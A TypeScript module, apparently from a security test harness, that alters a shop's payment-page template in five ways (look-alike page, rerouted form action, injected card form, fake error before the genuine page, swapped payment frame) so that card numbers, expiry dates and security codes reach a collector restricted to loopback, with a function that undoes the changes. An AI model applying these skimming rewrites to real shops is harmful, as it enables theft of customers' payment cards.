/**
 * Five ways to alter the page that leads to the payment provider (LEAK-04, link type), as changes of its template. All of
 * them send to the collector alone, on loopback.
 */
import { requireLoopback } from '../loopback/address.ts';

/**
 * `look-alike`: the form leads to a copy of the provider's page. `form-action`: it leads through the collector to the
 * genuine page. `second-form`: a card form on the shop's own page. `error-then-genuine`: a fake asks for the card, says
 * that something failed and lets the customer pay on the genuine page. `frame`: the provider's frame is swapped.
 */
export const LINK_ATTACKS = ['look-alike', 'form-action', 'second-form', 'error-then-genuine', 'frame'] as const;
export type LinkAttack = (typeof LINK_ATTACKS)[number];

const ACTION = 'action="{{pspOrigin}}/pay"';
const FRAME = 'src="{{pspOrigin}}/pay?';

const leading = (to: string): string => `action="${to}"`;

const CARD_FORM = (to: string): string => `
<form id="quick-pay" class="panel" method="post" action="${to}">
<label>カード番号<input name="number" inputmode="numeric" autocomplete="cc-number"></label>
<label>有効期限<input name="expiry" autocomplete="cc-exp"></label>
<label>セキュリティコード<input name="securityCode" autocomplete="cc-csc"></label>
<button class="button" type="submit">いますぐ支払う</button>
</form>`;

/** @throws NotLoopback when the collector is not of this machine. */
export const alteredLink = (template: string, attack: LinkAttack, collector: string): string => {
  const { origin } = requireLoopback(collector);
  switch (attack) {
    case 'look-alike':
      return template.replace(ACTION, leading(`${origin}/pay`));
    case 'form-action':
      return template.replace(ACTION, leading(`${origin}/through`));
    case 'second-form':
      return `${template.trimEnd()}${CARD_FORM(`${origin}/pay/submit`)}\n`;
    case 'error-then-genuine':
      return template.replace(ACTION, leading(`${origin}/first`));
    case 'frame':
      return template.replace(FRAME, `src="${origin}/pay?`);
  }
};

/** The template without what an earlier attack of ours left in it. */
export const withoutLinkAttacks = (template: string, collector: string): string =>
  template
    .replace(/action="http:[^"]*\/(?:pay|through|first)"/g, (action) => (action.includes(collector) ? ACTION : action))
    .replace(`src="${collector}/pay?`, FRAME)
    .replaceAll(/\n<form id="quick-pay"[\s\S]*?<\/form>/g, '');
